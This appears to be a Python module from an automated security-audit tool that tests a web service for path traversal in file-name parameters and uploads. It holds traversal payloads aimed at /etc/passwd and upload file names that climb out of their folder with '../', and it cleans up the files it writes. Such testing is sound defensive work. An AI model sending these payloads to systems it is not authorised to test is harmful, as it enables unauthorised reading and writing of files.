"""Names of files that callers choose: what is read or written outside the folder that was meant."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Final
from urllib.parse import quote

from techlead.audit.attacks.attack import Attack, Compare, Harm, Outcome, Shows, Sighting, Site, Unavailable
from techlead.audit.attacks.input.hostile import fields_of, with_value
from techlead.audit.attacks.sight import Callers, values_of
from techlead.audit.finding import Severity
from techlead.audit.target.exchange import Answer, Request
from techlead.audit.target.operation import Meaning, Operation, Role
from techlead.audit.target.reading import filled

KIND: Final = "input.path-or-upload"
RESERVE_SECONDS = 1.0
PASSWD: Final = re.compile(r"^root:[^:\n]*:0:0:", re.MULTILINE)
NAMED: Final = re.compile(
    r"file|path|name|document|doc$|image|img|template|page|url|key|avatar|attachment", re.IGNORECASE
)
UP: Final = "../" * 12 + "etc/passwd"
WORDS: Final = (UP, "/etc/passwd", "....//" * 12 + "etc/passwd", "file:///etc/passwd")
UPLOADED: Final = "zqx-uploaded.txt"


def outside(answer: Answer) -> bool:
    """Tell whether the answer is a file of the machine that no caller was meant to read."""
    return answer.ok and PASSWD.search(answer.text) is not None


def strike(site: Site) -> Iterator[Outcome]:
    """Ask for a file of the machine wherever a name is taken, and upload one whose name leads out of the folder."""
    callers = Callers(site)
    tried = False
    for operation in site.places():
        if operation.role is Role.DOCUMENTS or site.left() < RESERVE_SECONDS:
            continue
        if not _takes_name(operation):
            continue
        tried = True
        request, _ = callers.reached(operation)
        for answer in site.many(list(_requests(operation, request)), 5.0, at_once=4):
            if outside(answer):
                yield _sighting(operation, answer)
                break
        yield from _upload(site, operation, request)
    if not tried:
        raise Unavailable("no operation takes the name of a file")


def _takes_name(operation: Operation) -> bool:
    fields = (*operation.parameters, *operation.query, *operation.body)
    return any(
        field.meaning is Meaning.FILE or (NAMED.search(field.name) and field.type in {"string", "file"})
        for field in fields
    )


def _requests(operation: Operation, base: Request) -> Iterator[Request]:
    values = values_of(operation, base)
    for word in WORDS:
        for parameter in operation.parameters:
            if parameter.type == "string":
                for written in (quote(word, safe=""), quote(word, safe="/").replace("..", "%2e%2e")):
                    yield base.but(path=filled(operation.path, {**values, parameter.name: written}))
        for field in operation.query:
            if NAMED.search(field.name):
                yield base.but(path=f"{base.path.partition('?')[0]}?{field.name}={quote(word)}")
        if operation.unsafe and base.raw is None:
            for name, field in fields_of(operation, base).items():
                if NAMED.search(name) and field.type == "string":
                    yield with_value(base, name, word)


def climbed(meant: set[Path], written: set[Path]) -> bool:
    """Tell whether a file was written anywhere but in the folder in which its plain name was kept."""
    return bool({path.parent for path in written} - {path.parent for path in meant})


def _upload(site: Site, operation: Operation, base: Request) -> Iterator[Outcome]:
    """Send a file by a plain name, and by one that climbs: what is kept elsewhere was written where the caller said."""
    files = [field for field in operation.body if field.type == "file" or field.meaning is Meaning.FILE]
    folder = site.state.folder
    if not files or folder is None:
        return
    _, meant = _sent(site, folder, _form(base, files[0].name, UPLOADED))
    for depth in (1, 2, 3):
        answer, written = _sent(site, folder, _form(base, files[0].name, "../" * depth + UPLOADED))
        if answer.ok and written and climbed(meant, written):
            yield _sighting(operation, answer)
            return


def _sent(site: Site, folder: Path, request: Request) -> tuple[Answer, set[Path]]:
    """Send an upload; where its file was written, from where it is removed again."""
    before = _uploaded(folder)
    answer = site.send(request)
    written = _uploaded(folder) - before
    for path in written:
        path.unlink(missing_ok=True)
    return answer, written


def _uploaded(folder: Path) -> set[Path]:
    return {*folder.rglob(UPLOADED), *folder.parent.glob(UPLOADED)}


def _form(base: Request, name: str, filename: str) -> Request:
    boundary = "zqxboundary"
    fields = base.body if isinstance(base.body, dict) else {}
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
        for key, value in fields.items()
    ]
    head = f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\nContent-Type: text/plain'
    parts.append(f"--{boundary}\r\n{head}\r\n\r\nzqx\r\n--{boundary}--\r\n")
    media = {"Content-Type": f"multipart/form-data; boundary={boundary}"}
    return base.but(body=None, raw="".join(parts).encode(), headers={**base.headers, **media})


def _sighting(operation: Operation, answer: Answer) -> Sighting:
    read = PASSWD.search(answer.text) is not None
    what = "reads files of the machine" if read else "writes files where their names say"
    return Sighting(
        kind=KIND,
        operation=operation.name,
        claim=f"{operation.name} {what}: `..` in a name leads out of the folder.",
        steps=(answer.exchange,),
        shows=Shows(Compare.CONTAINS, ("root:",)) if read else Shows(),
        severity=Severity.HIGH,
    )


ATTACK: Final = Attack(
    name="input.path-or-upload",
    kinds=(KIND,),
    claim="A name that a caller chooses leads to files outside the folder that was meant.",
    effect="The machine's /etc/passwd comes back, or a file appears above the folder.",
    strike=strike,
    harm=Harm.NONE,
    seconds=6.0,
)
